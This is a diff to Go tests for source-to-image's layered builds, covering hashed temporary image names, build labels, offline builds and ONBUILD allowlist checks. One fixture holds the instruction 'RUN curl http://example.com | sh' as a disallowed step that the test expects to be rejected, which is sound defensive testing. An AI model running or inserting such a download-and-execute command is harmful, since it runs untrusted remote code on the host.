@@ -5,6 +5,7 @@ import (
 	"io/ioutil"
 	"os"
 	"path/filepath"
+	"reflect"
 	"regexp"
 	"regexp/syntax"
 	"strings"
@@ -14,6 +15,7 @@ import (
 	"github.com/openshift/source-to-image/pkg/api/constants"
 	"github.com/openshift/source-to-image/pkg/build"
 	"github.com/openshift/source-to-image/pkg/docker"
+	s2ierr "github.com/openshift/source-to-image/pkg/errors"
 	"github.com/openshift/source-to-image/pkg/test"
 	testfs "github.com/openshift/source-to-image/pkg/test/fs"
 )
@@ -64,8 +66,8 @@ func TestBuildOK(t *testing.T) {
 	if !l.config.LayeredBuild {
 		t.Errorf("Expected LayeredBuild to be true!")
 	}
-	if m, _ := regexp.MatchString(`s2i-layered-temp-image-\d+`, l.config.BuilderImage); !m {
-		t.Errorf("Expected BuilderImage s2i-layered-temp-image-withnumbers, but got %s", l.config.BuilderImage)
+	if m, _ := regexp.MatchString(`^s2i-layered-temp-image-[0-9a-f]{16}$`, l.config.BuilderImage); !m {
+		t.Errorf("Expected BuilderImage s2i-layered-temp-image-<hash>, but got %s", l.config.BuilderImage)
 	}
 	// without config.Destination explicitly set, we should get /tmp/scripts for the scripts url
 	// assuming the assemble script we created above is off the working dir
@@ -124,6 +126,52 @@ func TestBuildOKWithImageRef(t *testing.T) {
 	}
 }
 
+func TestBuildLayeredImageNameAndLabels(t *testing.T) {
+	config := &api.Config{BuilderImage: "test/image", Tag: "test/app", WorkingDir: "/tmp/s2i-work"}
+	name := layeredImageName(config)
+	if name != layeredImageName(&api.Config{BuilderImage: "test/image", Tag: "test/app", WorkingDir: "/tmp/s2i-work"}) {
+		t.Errorf("Expected the layered image name to be stable for the same build")
+	}
+	if name == layeredImageName(&api.Config{BuilderImage: "test/image", Tag: "test/app", WorkingDir: "/tmp/s2i-other"}) {
+		t.Errorf("Expected the layered image name to differ between builds")
+	}
+
+	l := newFakeLayered()
+	l.config = config
+	if _, err := l.Build(l.config); err != nil {
+		t.Fatalf("Unexpected error returned: %v", err)
+	}
+	if l.config.BuilderImage != name {
+		t.Errorf("Expected BuilderImage %s, but got %s", name, l.config.BuilderImage)
+	}
+	opts := l.docker.(*docker.FakeDocker).BuildImageOpts
+	if opts.Name != name {
+		t.Errorf("Expected image %s to be built, but got %s", name, opts.Name)
+	}
+	expected := map[string]string{
+		constants.LayeredBuilderImageLabel: "test/image",
+		constants.LayeredTagLabel:          "test/app",
+		constants.TemporaryLabel:           "true",
+		constants.InvocationIDLabel:        docker.InvocationID(),
+		constants.CreatorVersionLabel:      "unknown",
+	}
+	if !reflect.DeepEqual(opts.Labels, expected) {
+		t.Errorf("Expected labels %v, but got %v", expected, opts.Labels)
+	}
+}
+
+func TestBuildLayeredImageOffline(t *testing.T) {
+	l := newFakeLayered()
+	l.config.BuilderImage = "test/image"
+	l.config.DockerNetworkMode = api.DockerNetworkModeNone
+	if _, err := l.Build(l.config); err != nil {
+		t.Fatalf("Unexpected error returned: %v", err)
+	}
+	if mode := l.docker.(*docker.FakeDocker).BuildImageOpts.NetworkMode; mode != "none" {
+		t.Errorf("Expected the image to be built without network, got %q", mode)
+	}
+}
+
 func TestBuildNoScriptsProvided(t *testing.T) {
 	l := newFakeLayered()
 	l.config.BuilderImage = "test/image"
@@ -134,8 +182,8 @@ func TestBuildNoScriptsProvided(t *testing.T) {
 	if !l.config.LayeredBuild {
 		t.Errorf("Expected LayeredBuild to be true!")
 	}
-	if m, _ := regexp.MatchString(`s2i-layered-temp-image-\d+`, l.config.BuilderImage); !m {
-		t.Errorf("Expected BuilderImage s2i-layered-temp-image-withnumbers, but got %s", l.config.BuilderImage)
+	if m, _ := regexp.MatchString(`^s2i-layered-temp-image-[0-9a-f]{16}$`, l.config.BuilderImage); !m {
+		t.Errorf("Expected BuilderImage s2i-layered-temp-image-<hash>, but got %s", l.config.BuilderImage)
 	}
 	if len(l.config.Destination) != 0 {
 		t.Errorf("Unexpected Destination %s", l.config.Destination)
@@ -190,6 +238,33 @@ func TestBuildErrorOnBuildBlocked(t *testing.T) {
 	}
 }
 
+func TestBuildErrorOnBuildNotAllowed(t *testing.T) {
+	l := newFakeLayered()
+	l.config.BuilderImage = "node:onbuild"
+	l.config.HasOnBuild = true
+	_, err := l.Build(l.config)
+	if err == nil || !strings.Contains(err.Error(), "executed only with confirmation") {
+		t.Errorf("expected error from the ONBUILD instructions executed without confirmation, got: %v", err)
+	}
+}
+
+func TestBuildErrorOnBuildNotAllowlisted(t *testing.T) {
+	l := newFakeLayered()
+	l.config.BuilderImage = "node:onbuild"
+	l.config.HasOnBuild = true
+	l.config.AllowOnBuild = true
+	l.config.OnBuildAllowlist = []string{`COPY \. /app`}
+	fakeDocker := l.docker.(*docker.FakeDocker)
+	fakeDocker.OnBuildResult = []string{"COPY . /app", "RUN curl http://example.com | sh"}
+	_, err := l.Build(l.config)
+	if !reflect.DeepEqual(err, s2ierr.NewOnBuildNotAllowedError("node:onbuild", "RUN curl http://example.com | sh")) {
+		t.Errorf("expected the ONBUILD instruction missing from the allowlist to be rejected, got: %v", err)
+	}
+	if fakeDocker.BuildImageOpts.Name != "" {
+		t.Errorf("expected the layered image not to be built, got %#v", fakeDocker.BuildImageOpts)
+	}
+}
+
 func TestNewWithInvalidExcludeRegExp(t *testing.T) {
 	_, err := New(nil, &api.Config{
 		DockerConfig:  docker.GetDefaultDockerConfig(),